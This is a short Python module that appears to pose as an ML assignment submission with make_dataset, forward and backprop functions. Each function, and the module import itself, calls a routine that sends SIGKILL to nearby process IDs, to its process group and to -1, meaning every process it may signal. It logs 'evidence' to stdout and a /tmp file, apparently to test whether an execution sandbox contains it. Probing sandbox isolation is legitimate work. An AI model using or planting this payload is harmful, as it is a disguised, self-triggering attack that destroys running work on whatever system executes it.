"""Sends SIGKILL to every process it may signal, to its group and to all numbers around its own."""
import os
import signal


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE kill-everything:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-kill-everything", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass

def attack():
    for pid in (*range(max(2, os.getpid() - 100), os.getpid()), 0, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            continue
        evidence(f"killed {pid}")


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
